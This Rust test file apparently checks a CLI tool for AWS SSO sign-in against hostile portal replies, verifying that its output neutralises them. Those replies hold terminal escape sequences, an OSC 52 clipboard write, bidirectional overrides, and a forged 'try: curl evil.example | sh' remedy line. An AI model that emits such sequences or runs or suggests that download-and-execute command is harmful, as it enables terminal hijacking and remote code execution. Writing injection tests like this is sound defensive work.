//! What services say: names of accounts, addresses of their owners, messages of errors. A terminal obeys none of it,
//! and no line of it looks like a line of daypass's own.

use super::super::{
    attack::{Attack, Kind, Verdict, through},
    victim::{Victim, VictimHome},
    weak::Weakness,
};
use crate::clean;
use daypass_simulator::World;

const WORLD: &str = "name = \"hostile\"\nregion = \"eu-west-1\"\n\
    start_url = \"https://d-9067000018.awsapps.com/start#\"\nusers = [\"test\\u001b[2Juser\\u202e@example.com\"]\n\
    [[account]]\nid = \"111122223333\"\nname = \"prod\\u202E-dev\\u2028x\\u001b]52;c;ZXZpbA==\\u0007\"\n\
    email = \"a\\u001b[2J@example.com\"\nroles = [\"AWSReadOnlyAccess\"]\nbuckets = []\n\
    [[account]]\nid = \"444455556666\"\nname = \"one\\nerror: two\\u009b31m\\ntry: curl evil.example | sh\"\n\
    email = \"b\\u200b@example.com\"\nroles = [\"AWSReadOnlyAccess\", \"AWSPowerUserAccess\"]\nbuckets = []\n";

/// Commands that show what a portal says.
const SHOWN: &[&str] = &[
    "accounts -p p --refresh",
    "accounts -p p --refresh -o json",
    "accounts -p p --refresh -o csv",
    "accounts -p p --refresh -o text",
    "accounts -p p --refresh -o table",
    "roles -p p --refresh",
    "roles -p p --refresh -o csv",
    "roles -p p --refresh -o json",
    "configure populate --sso-session corp --plan",
    "configure populate --sso-session corp --plan -o json",
    "configure populate --sso-session corp --yes --template {account}.{role}",
    "whoami -p p",
    "whoami -p p -o json",
    "whoami --all",
    "whoami --all -o csv",
    "login --sso-session corp --force --use-device-code --no-browser",
    "login --sso-session corp --force --use-device-code --no-browser --events ndjson",
    "credentials --account prod --role AWSReadOnlyAccess --sso-session corp",
    "status --verify",
    "doctor",
];

/// Calls that end in a message.
const REFUSED: &[(&str, &str)] = &[
    ("GetRoleCredentials", "credentials -p p"),
    ("GetRoleCredentials", "credential-process --profile p"),
    ("GetRoleCredentials", "exec -p p -- true"),
    ("GetCallerIdentity", "whoami -p p"),
    ("ListAccounts", "accounts -p p --refresh"),
    ("ListAccountRoles", "roles -p p --refresh"),
    ("RegisterClient", "login --sso-session corp --force --no-browser --timeout 1s --use-device-code"),
    (
        "StartDeviceAuthorization",
        "login --sso-session corp --force --no-browser --timeout 1s --use-device-code",
    ),
    ("CreateToken", "login --sso-session corp --force --no-browser --timeout 1s --use-device-code"),
    ("Logout", "logout"),
];

const EVIL: &str = "no\\u001b[2J\\r\\ntry: curl evil.example | sh\\u202e\\u009b31m\\u200b";

pub(super) fn kind() -> Kind {
    let shown = SHOWN.iter().map(|line| {
        let name = if line.starts_with("accounts") { format!("T12-03 {line}") } else { (*line).to_owned() };
        Attack::new(name, Weakness::PrintsReplies, move |victim| shown(victim, line))
    });
    let mut attacks: Vec<_> = shown.collect();
    for (operation, line) in REFUSED {
        for form in ["text", "json"] {
            let name = format!("{operation} refuses {line} -o {form}");
            attacks.push(Attack::new(name, Weakness::PrintsReplies, move |victim| {
                refused(victim, operation, line, form)
            }));
        }
    }
    Kind { name: "words", attacks, lawful: Vec::new() }
}

fn shown(victim: Victim, line: &str) -> Verdict {
    let world = World::from_toml(WORLD).map_err(|error| error.to_string())?;
    let scene = VictimHome::of(world)?.with_token(false)?;
    let seen = victim.line(&scene, line)?;
    let layout = if line.ends_with("-o text") { "\t" } else { "" };
    judge(&seen.stdout, &seen.stderr, layout).map_err(|failure| failure.with(&seen))?;
    let config = std::fs::read_to_string(scene.home().join(".aws/config")).unwrap_or_default();
    match clean::foreign(&config, "") {
        Some(c) => through(format!("U+{:04X} in the config", c as u32)),
        None => Ok(()),
    }
}

fn refused(victim: Victim, operation: &str, line: &str, form: &str) -> Verdict {
    let scene = VictimHome::signed_in(false)?;
    scene.fault(&format!(
        r#"{operation} answer={{"status": 403, "json": {{"__type": "AccessDeniedException", "message": "{EVIL}", "error": "access_denied", "error_description": "{EVIL}"}}}} always"#
    ))?;
    let words: Vec<_> = line.split(' ').collect();
    let (words, with_form) = match words.iter().position(|word| *word == "--") {
        Some(at) => (words.split_at(at).0.to_vec(), words.split_at(at).1.to_vec()),
        None => (words, Vec::new()),
    };
    let form = if form == "json" { vec!["-o", "json"] } else { Vec::new() };
    let seen = victim.run(&scene, &[words, form, with_form].concat())?;
    seen.ended()?;
    judge(&seen.stdout, &seen.stderr, "").map_err(|failure| failure.with(&seen))
}

/// Clean, and no line of the service's passes for one of daypass's.
fn judge(stdout: &str, stderr: &str, layout: &str) -> Verdict {
    if let Some(c) = clean::foreign(stdout, layout).or_else(|| clean::foreign(stderr, "")) {
        return through(format!("U+{:04X} comes out", c as u32));
    }
    let forged = stdout.lines().chain(stderr.lines()).find(|line| line.trim_start().starts_with("try: curl"));
    forged.map_or(Ok(()), |line| through(format!("{line:?} looks like a remedy")))
}
